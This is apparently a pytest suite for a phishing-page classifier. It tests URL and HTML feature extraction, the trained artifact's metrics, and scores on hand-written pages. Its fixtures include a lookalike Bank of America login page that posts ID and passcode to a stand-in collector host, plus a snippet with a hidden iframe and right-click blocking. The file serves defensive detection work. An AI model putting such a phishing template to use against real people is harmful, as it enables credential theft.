"""Page-phishing head: feature extractor fidelity, the committed artifact, and sanity on hand-written pages."""

from __future__ import annotations

import csv
import json

import numpy as np
import pytest

from core.config import PROJECT_ROOT
from models.model_files import file_sha256
from models.page_features import HOST_FREE_CONTENT_FEATURES, URL_FEATURES, default_spec, split_url, url_features
from models.page_phishing import ARTIFACT_DIR, DATA_FILE, PagePhishingHead, page_features, train_page_head
from multimodal.page import analyze_page

DATA_DIR = PROJECT_ROOT.parent / "shared" / "data"
needs_data = pytest.mark.skipif(not (DATA_DIR / DATA_FILE).exists(), reason="../shared/data is not here")

BANK_URL = "http://bankofamerica.com-secure-login.verify-account.xyz/signin/index.php?session=8f3a9c1d2e"
BANK = """<!doctype html><html><head><title>Secure Login</title>
<link rel="icon" href="https://www.bankofamerica.com/favicon.ico"></head><body>
<img src="https://www.bankofamerica.com/logo.png"><h2>Bank of America Online Banking</h2>
<p>Your account has been suspended due to unusual activity. Verify your account within 24 hours.</p>
<form action="https://collect-data.xyz/gate.php" method="post">
<label for=u>Online ID</label><input id=u name=onlineid>
<label for=p>Passcode</label><input id=p name=passcode type=password>
<input type=submit value="Sign In"></form></body></html>"""

BAKERY_URL = "https://www.sunrisebakery.com/"
BAKERY = """<!doctype html><html lang=en><head><title>Sunrise Bakery - Fresh bread in Portland</title>
<link rel=stylesheet href="/css/site.css"><link rel=icon href="/favicon.ico"></head><body>
<nav><a href="/">Home</a> <a href="/menu">Menu</a> <a href="/about">About us</a> <a href="/contact">Contact</a></nav>
<h1>Sunrise Bakery</h1><img src="/img/bread.jpg" alt="bread"><img src="/img/pies.jpg">
<p>Sourdough, croissants and apple pie baked every morning.</p>
<a href="/menu#breads">Breads</a> <a href="/menu#cakes">Cakes</a> <a href="/order">Order a cake</a>
<a href="https://www.instagram.com/sunrisebakery">Instagram</a>
<footer><p>123 Main Street, Portland · Call (503) 555-0147 · <a href="mailto:hello@sunrisebakery.com">e-mail</a></p>
<p><a href="/privacy">Privacy policy</a> · <a href="/terms">Terms</a> · <a href="/returns">Returns</a></p>
<p>&copy; 2024 Sunrise Bakery</p></footer></body></html>"""


@pytest.fixture(scope="module")
def head() -> PagePhishingHead:
    return PagePhishingHead.load(ARTIFACT_DIR)


# ----------------------------------------------------------------------------------- features
def test_url_features_follow_the_data_set_definitions():
    spec = default_spec()
    url = "http://www.paypal.com.secure-login.example.co.uk/wp-admin/signin.php?x=1&y=%20z"
    parts = split_url(url, spec)
    assert (parts.subdomain, parts.sld, parts.suffix) == ("www.paypal.com.secure-login", "example", "co.uk")
    f = url_features(parts, spec)
    assert set(f) == set(URL_FEATURES)
    assert f["length_url"] == len(url) and f["nb_dots"] == 7 and f["nb_hyphens"] == 2 and f["nb_qm"] == 1
    assert f["nb_and"] == 1 and f["nb_eq"] == 2 and f["nb_space"] == 1 and f["https_token"] == 1
    assert f["phish_hints"] == 4  # wp, login, admin, signin
    assert f["tld_in_subdomain"] == 0 and f["nb_subdomains"] == 3 and f["prefix_suffix"] == 1  # "-" in host
    assert f["nb_www"] == 1 and f["nb_com"] == 1 and f["ip"] == 0 and f["shortening_service"] == 0
    ip = url_features(split_url("http://192.168.10.5/login", spec), spec)
    assert ip["ip"] == 1 and ip["length_hostname"] == len("192.168.10.5")
    assert url_features(split_url("https://bit.ly/3xyz", spec), spec)["shortening_service"] == 1


@needs_data
def test_url_features_reproduce_the_csv_columns():
    spec = default_spec()
    with (DATA_DIR / DATA_FILE).open(encoding="utf-8") as fh:
        rows = [row for _, row in zip(range(1500), csv.DictReader(fh), strict=False)]
    ours = [url_features(split_url(row["url"], spec), spec) for row in rows]
    for name in URL_FEATURES:
        same = np.mean([np.isclose(o[name], float(r[name]), atol=1e-6) for o, r in zip(ours, rows, strict=True)])
        assert same >= 0.98, f"{name}: {same:.3f}"


def test_content_features_follow_the_data_set_definitions():
    html = """<html><head><title>T</title><link rel="stylesheet" href="https://cdn.other.net/a.css">
    <link rel="shortcut icon" href="/fav.ico"></head><body>
    <a href="/local">a</a><a href="#top">b</a><a href="javascript:void(0)">c</a>
    <a href="https://www.example.com/own">own host: not counted</a><a href="https://www.elsewhere.org/x">ext</a>
    <a href="https://one-dot.org/x">one dot: not counted</a>
    <img src="img/a.png"><img src="https://img.cdn.net/b.png"><script src="/app.js"></script>
    <form action="https://collect.evil.net/p"><input name=q></form>
    <iframe src="/f" width="0" height="0" frameborder="0"></iframe>
    <script>document.onmousedown = function (e) { if (event.button==2) { prompt("x"); } }</script>
    </body></html>"""
    url = "https://www.example.com/page"
    f = page_features(url, analyze_page(html, url), html)
    # Href: 3 relative internal + 1 external (absolute to the own host or with one dot: not counted);
    # Media: iframe + img internal, 1 ext;
    # Link: css ext + icon int + script int; Form: 1 ext; CSS: 1 ext; Favicon: both links + the icon again.
    assert f["nb_hyperlinks"] == 4 + 3 + 3 + 1 + 1 + 3
    assert f["nb_intHyperlinks"] == 3 + 2 + 2 + 0 + 0 + 2
    assert f["ratio_intHyperlinks"] == pytest.approx(9 / 15) and f["ratio_extHyperlinks"] == pytest.approx(6 / 15)
    assert f["nb_extCSS"] == 1 and f["login_form"] == 1 and f["external_favicon"] == 1
    assert f["links_in_tags"] == pytest.approx(200 / 3) and f["ratio_extMedia"] == pytest.approx(100 / 3)
    assert f["safe_anchor"] == pytest.approx(200 / 3)  # 2 unsafe (#, javascript:) vs 1 safe (external)
    assert f["iframe"] == 1 and f["right_clic"] == 1 and f["popup_window"] == 1 and f["empty_title"] == 0
    assert f["length_url"] == len(url)
    html_only = page_features(None, analyze_page(html), html)
    assert set(html_only) == set(HOST_FREE_CONTENT_FEATURES) and html_only["nb_intHyperlinks"] == 9


# ----------------------------------------------------------------------------------- artifact
def test_artifact_loads_with_metrics_and_is_small(head):
    assert head.ident == "page-phishing@2"
    manifest = head.manifest
    for key in ("url_page", "page_only"):
        info = manifest["models"][key]
        for metric in ("precision", "recall", "f1", "auprc", "roc_auc"):
            assert 0 < info["metrics"][metric] <= 1
        assert info["metrics"]["n_pos"] > 500 and info["features"] == head.models[key].features
        assert info["reference_gradient_boosting"]["auprc"] > 0
    assert manifest["models"]["url_page"]["metrics"]["auprc"] > 0.95
    assert manifest["models"]["page_only"]["metrics"]["auprc"] > 0.75
    assert set(manifest["models"]["page_only"]["features"]) <= set(HOST_FREE_CONTENT_FEATURES)
    used = set(manifest["models"]["url_page"]["features"])
    never = {"whois_registered_domain", "domain_registration_length", "domain_age", "web_traffic", "dns_record",
             "google_index", "page_rank", "statistical_report", "nb_redirection"}
    assert not used & never and never <= set(manifest["dropped_features"])
    assert set(manifest["url_feature_agreement"]) == set(URL_FEATURES)
    size = sum(p.stat().st_size for p in ARTIFACT_DIR.iterdir())
    assert size < 200_000
    with np.load(ARTIFACT_DIR / "weights.npz", allow_pickle=False) as weights:
        assert all(weights[k].dtype != object for k in weights.files)


@pytest.mark.slow  # retrains the page head from its data
@needs_data
def test_training_reproduces_the_committed_artifact(tmp_path):
    manifest = train_page_head(DATA_DIR, tmp_path / "head")
    committed = json.loads((ARTIFACT_DIR / "manifest.json").read_text())
    assert manifest["data"][DATA_FILE] == file_sha256(DATA_DIR / DATA_FILE) == committed["data"][DATA_FILE]
    assert manifest["models"] == committed["models"]
    assert manifest["url_feature_agreement"] == committed["url_feature_agreement"]
    retrained = PagePhishingHead.load(tmp_path / "head")
    a = analyze_page(BANK, BANK_URL)
    assert retrained.score(BANK_URL, a, BANK)[0] == pytest.approx(PagePhishingHead.load().score(BANK_URL, a, BANK)[0])


# ----------------------------------------------------------------------------------- sanity
def test_lookalike_bank_login_scores_high_and_bakery_low(head):
    bank_p, bank_reasons = head.score(BANK_URL, analyze_page(BANK, BANK_URL), BANK)
    bakery_p, _ = head.score(BAKERY_URL, analyze_page(BAKERY, BAKERY_URL), BAKERY)
    assert bank_p > 0.9 and bakery_p < 0.3
    assert bank_reasons and all(isinstance(r, str) and "=" in r for r in bank_reasons)


def test_html_only_uses_the_page_model(head):
    bank_p, reasons = head.score(None, analyze_page(BANK), BANK)
    bakery_p, _ = head.score(None, analyze_page(BAKERY), BAKERY)
    assert bank_p > bakery_p and bank_p > 0.7
    assert reasons and reasons[0].startswith("nb_intHyperlinks=0")


def test_unparsable_url_falls_back_to_the_page_model(head):
    a = analyze_page(BANK)
    assert head.score("not a url", a, BANK) == head.score(None, a, BANK)
